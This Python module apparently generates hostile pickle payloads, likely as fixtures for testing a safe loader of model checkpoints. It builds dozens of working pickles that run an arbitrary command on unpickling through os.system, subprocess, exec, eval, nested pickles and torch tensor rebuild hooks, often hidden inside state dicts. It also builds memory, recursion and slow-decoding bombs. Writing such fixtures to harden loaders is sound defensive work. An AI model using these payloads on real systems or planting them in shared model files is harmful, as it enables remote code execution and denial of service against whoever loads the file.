"""Pickles that would run code, fill the memory, or never end."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Iterator


def hostile_pickles(command: str) -> dict[str, bytes]:
    """Whole pickles by what they try; those with code run the command."""
    programs = {f"code: {name}": _program(body) for name, body in _code(command)}
    programs |= {f"bomb: {name}": _program(body) for name, body in _bombs()}
    programs["code: protocol 4"] = pickle.dumps(_Command(command), protocol=4)
    programs["code: protocol 5"] = pickle.dumps({"state_dict": {"w": _Command(command)}}, 5)
    return programs


def text(words: str) -> bytes:
    """The opcode for a text."""
    encoded = words.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


class _Command:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def _program(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def _state(value: bytes) -> bytes:
    """A checkpoint whose state dict has one value."""
    return b"}" + text("state_dict") + b"}" + text("weight") + value + b"ss"


def _code(command: str) -> Iterator[tuple[str, bytes]]:
    told = text(command)
    for name, function in {
        "os": b"cos\nsystem\n",
        "posix": b"cposix\nsystem\n",
        "subprocess": b"csubprocess\ngetoutput\n",
        "torch.hub": b"ctorch.hub\nos.system\n",
    }.items():
        call = function + told + b"\x85R"
        yield f"{name}, alone", call
        yield f"{name}, as a weight", _state(call)
        yield f"{name}, as a key", b"}" + call + b"K\x01s"
    python = text(f"import os; os.system({command!r})")
    for name, function in {
        "exec": b"cbuiltins\nexec\n",
        "eval": b"c__builtin__\neval\n",
        "run": b"ctimeit\ntimeit\n",
    }.items():
        yield name, _state(function + python + b"\x85R")
    system = b"cos\nsystem\n"
    yield "old instance", b"(S" + repr(command).encode() + b"\nios\nsystem\n"
    yield "old object", b"(" + system + told + b"o"
    yield "new object", system + told + b"\x85\x81"
    yield "named on the stack", text("os") + text("system") + b"\x93" + told + b"\x85R"
    yield "attribute", b"cbuiltins\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86R" + told
    yield "extension registry", b"\x82\x01" + told + b"\x85R"
    yield "in a tensor's arguments", _tensor(b"cos\nsystem\n" + told + b"\x85R")
    yield "in a tensor's hooks", _tensor(hooks=system + told + b"\x85R")
    inner = pickle.dumps(_Command(command), protocol=2)
    loads = text(inner.decode("latin1")) + text("latin1") + b"\x86R"
    encoded = b"c_codecs\nencode\n" + loads
    yield "a pickle in a pickle", b"ctorch.storage\n_load_from_bytes\n" + encoded + b"\x85R"
    yield "and once more", b"cpickle\nloads\n" + encoded + b"\x85R"
    yield "state of an object", b"ccollections\nOrderedDict\n)R" + system + told + b"\x85Rb"
    yield "persistent", b"(" + text("module") + system + told + b"\x85RtQ"
    yield "partial", b"cfunctools\npartial\n" + system + told + b"\x86R)R"
    yield "after the weights", _state(b"K\x01") + system + told + b"\x85R0"


def _bombs() -> Iterator[tuple[str, bytes]]:
    for size in (2**31 - 1, 2**40):
        number = _long(size)
        yield f"array of {size} bytes", b"cbuiltins\nbytearray\n" + number + b"\x85R"
        yield f"old array of {size} bytes", b"c__builtin__\nbytearray\n" + number + b"\x85R"
        yield f"tensor of {size} values", _state(b"ctorch\nFloatTensor\n" + number + b"\x85R")
        yield f"storage of {size} bytes", b"ctorch.storage\nUntypedStorage\n" + number + b"\x85R"
        yield f"weight of {size} values", _state(_tensor(size=number + b"\x85"))
        yield f"one value {size} times", _state(_tensor(size=number + b"\x85", step=b"K\x00\x85"))
        yield f"record of {size} values", _state(_tensor(count=number))
        yield f"weight from {size} on", _state(_tensor(offset=number))
        yield f"minus {size} values", _state(_tensor(size=_long(-size) + b"\x85"))
    number = b"cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\n" + text("S2000000000")
    yield "number of 2 GB", b"](" + number + b"\x85R\x85Re"
    pairs = b"]q\x00(" + 150_000 * b"K\x01K\x02\x86" + b"e"
    ordered = b"ccollections\nOrderedDict\nq\x01"
    yield "copies of a list", pairs + ordered + b"](" + 20_000 * b"h\x01h\x00\x85R" + b"e"
    counter = b"ccollections\nCounter\nq\x01"
    yield "copies of counts", pairs + counter + b"](" + 20_000 * b"h\x01h\x00\x85R" + b"e"
    sets = b"(" + 300_000 * b"K\x01" + b"tq\x00cbuiltins\nset\nq\x01]("
    yield "copies of a tuple", sets + 20_000 * b"h\x01h\x00\x85R" + b"e"
    yield "copies in attributes", pairs + ordered + b"](" + 20_000 * b"h\x01)R}h\x00h\x00sbb" + b"e"
    yield "hash of doubled tuples", b"}K\x00" + 80 * b"q\x00h\x00\x86" + b"K\x01s"
    yield "doubled tuples", b"K\x00" + 80 * b"q\x00h\x00\x86"
    yield "storage of doubled tuples", b"K\x00" + 80 * b"q\x00h\x00\x86" + b"Q"
    yield "deep lists", 300_000 * b"]" + 299_999 * b"a"
    yield "deep tuples", b")" + 500_000 * b"\x85"
    yield "deep dictionaries", 200_000 * b"}K\x01" + b"N" + 200_000 * b"s"
    yield "many lists", b"](" + 1_000_000 * b"]" + b"e"
    yield "many marks", 4_000_000 * b"("
    yield "a list in itself", b"]q\x00h\x00a"
    yield "a state dict in itself", b"}q\x00" + text("state_dict") + b"h\x00s"
    yield "place 2^32 in the memo", b"]r\xff\xff\xff\xff"
    yield "text of 4 GB", b"X\xff\xff\xff\xffa"
    yield "text of 2^63 bytes", b"\x8d" + struct.pack("<Q", 2**63 - 1)
    yield "bytes of 2^40", b"\x8e" + struct.pack("<Q", 2**40)
    yield "array of 2^40", b"\x96" + struct.pack("<Q", 2**40)
    yield "frame of 2^63", b"\x95" + struct.pack("<Q", 2**63 - 1)
    yield "whole number of 2^31 bytes", b"\x8b" + struct.pack("<I", 2**31 - 1)
    yield "number in a million digits", b"L" + 1_000_000 * b"9" + b"L\n"
    puny = text("a\u00e4" * 100_000) + text("punycode")
    yield "slow encoding", b"c_codecs\nencode\n" + puny + b"\x86R"
    for method in ("items", "get", "keys", "__class__", "__len__"):
        state = b"ccollections\nOrderedDict\n)R}" + text(method) + b"K\x01sb"
        yield f"own {method}", state
        yield f"own {method} of the weights", b"}" + text("state_dict") + state + b"s"


def _long(number: int) -> bytes:
    encoded = pickle.encode_long(number)
    return b"\x8a" + bytes([len(encoded)]) + encoded


def _tensor(
    first: bytes | None = None,
    *,
    count: bytes = b"K\x02",
    offset: bytes = b"K\x00",
    size: bytes = b"K\x02\x85",
    step: bytes = b"K\x01\x85",
    hooks: bytes = b"ccollections\nOrderedDict\n)R",
) -> bytes:
    """A tensor over the first record of an archive."""
    kind = b"ctorch\nFloatStorage\n"
    storage = b"(" + text("storage") + kind + text("0") + text("cpu") + count + b"tQ"
    arguments = (storage if first is None else first) + offset + size + step + b"\x89" + hooks
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + arguments + b"tR"
